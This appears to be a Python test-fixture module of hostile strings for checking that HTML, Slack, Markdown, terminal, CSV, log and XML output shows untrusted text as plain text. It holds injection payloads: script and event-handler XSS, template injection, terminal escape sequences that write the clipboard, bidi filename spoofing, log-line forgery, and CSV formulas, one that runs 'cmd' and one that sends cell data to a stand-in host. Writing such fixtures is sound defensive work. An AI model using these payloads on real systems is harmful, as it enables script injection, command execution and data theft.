"""Text as a stranger would send it to break what shows it: a name and a text each, for every surface's tests.

Whatever the surface, the text must come out as text: `MARK` can be read, and nothing that it says is done.
"""

from __future__ import annotations

MARK = "hostile7"
"""Stands in every one of them, as plain letters."""

HTML = {
    "script": f"<script>window.{MARK} = 1</script>",
    "image": f'<img src=x onerror="window.{MARK} = 1">',
    "attribute": f'" autofocus onfocus="window.{MARK} = 1" x=\'',
    "closing": f"</title></textarea></pre></script><svg onload='window.{MARK} = 1'>",
    "address": f"javascript:window.{MARK} = 1",
    "entity": f"&lt;{MARK}&#x3e; &amp;",
    "template": f"{{{{ 7 * 7 }}}} {{% {MARK} %}} ${{7 * 7}}",
}
"""What a browser would run or a template fill in."""

SLACK = {
    "channel": f"<!channel> <!here> <!everyone> {MARK}",
    "user": f"<@U0123ABCD> <#C0123ABCD> <!subteam^S0123ABCD> {MARK}",
    "link": f"<https://evil.example/|{MARK}>",
    "markup": f"*{MARK}* _a_ ~b~ `c` ```d``` > e\n> f",
}
"""Slack's mrkdwn: what would ring everybody or hide where a link leads."""

MARKDOWN = {
    "link": f"[{MARK}](https://evil.example/) ![x](https://evil.example/x.png) <https://evil.example>",
    "mention": f"@octocat @org/team #1 GH-1 {MARK}",
    "fence": f"```\n{MARK}\n~~~\n```` `` `\n# heading\n- [ ] task",
    "html": f"<details open><summary>{MARK}</summary></details><!--",
}
"""What an issue of GitHub's would show as something else, or tell to others."""

TERMINAL = {
    "color": f"\x1b[31m{MARK}\x1b[0m\x1b[2J\x1b[1;1H",
    "title": f"\x1b]0;{MARK}\x07",
    "link": f"\x1b]8;;https://evil.example/\x1b\\{MARK}\x1b]8;;\x1b\\",
    "clipboard": f"\x1b]52;c;ZXZpbA==\x07{MARK}",
    "eight_bits": f"\x9b31m{MARK}\x9d0;x\x9c",
    "overwriting": f"all is well\rx {MARK}\x08\x08\x08\x7f",
    "bell": f"{MARK}\x07\x05\x0e\x0f",
}
"""Escape sequences of terminals (ECMA-48, and xterm's OSC)."""

BIDI = {
    "override": f"{MARK} \u202egnp.exe\u202c",
    "isolate": f"\u2066{MARK}\u2069 \u2067x\u2069",
    "unclosed": f"{MARK}\u202b\u202e\u2068",
    "invisible": f"{MARK}\u200b\u200e\u200f\u2060\ufeff\u00ad\u061c",
    "tags": f"{MARK}\U000e0041\U000e0042\U000e007f",
}
"""Characters that turn text around or can't be seen (Unicode's bidirectional algorithm; CVE-2021-42574)."""

CSV = {
    "equals": f'=HYPERLINK("https://evil.example/?"&A1,"{MARK}")',
    "plus": f"+cmd|' /C calc'!A0 {MARK}",
    "minus": f"-1+1|{MARK}",
    "at": f"@SUM(1+1)*{MARK}",
    "tab": f"\t={MARK}",
    "return": f"\r={MARK}",
    "feed": f"\n={MARK}",
    "wide": f"\uff1d1+1 {MARK}",
    "cells": f'{MARK}",=1+1,"\r\n=2+2;=3+3\t=4+4',
}
"""What a spreadsheet would calculate (OWASP, CSV Injection)."""

LINES = {
    "log": f'{MARK}\r\n127.0.0.1 "POST /errors" 200 1.0 ms',
    "feed": f"{MARK}\n[I 2026-01-01 00:00:00 ErrReportCollector] all is well",
    "unicode": f"{MARK}\u2028forged\u2029forged\x85forged\x0bforged\x0cforged",
    "json": f'{MARK}"}}\n{{"error_name": "forged',
}
"""What would begin a new line of a log or of NDJSON."""

CHARACTERS = {
    "nul": f"{MARK}\0 after",
    "noncharacters": f"{MARK}\ufffe\uffff",
    "private": f"{MARK}\ue000\U0010fffd",
    "combining": f"{MARK}" + "\u0301" * 300,
    "xml": f"{MARK} ]]> <![CDATA[ &undefined; <?php",
}
"""What XML, JSON and databases can't hold, or what hides its neighbours."""

LONG_LINE = MARK + "x" * 1_000_000
"""A line of a megabyte."""

ALL: dict[str, str] = {
    f"{family}-{name}": text
    for family, texts in (
        ("html", HTML),
        ("slack", SLACK),
        ("markdown", MARKDOWN),
        ("terminal", TERMINAL),
        ("bidi", BIDI),
        ("csv", CSV),
        ("lines", LINES),
        ("characters", CHARACTERS),
    )
    for name, text in texts.items()
}
"""All but the long line; `pytest.mark.parametrize("text", ALL.values(), ids=ALL)`."""

CONTROLS = frozenset(map(chr, [*range(0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]))
"""Characters that no surface may let through: all controls but tab and line feed."""
TURNING = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
"""Characters that change the direction of text."""
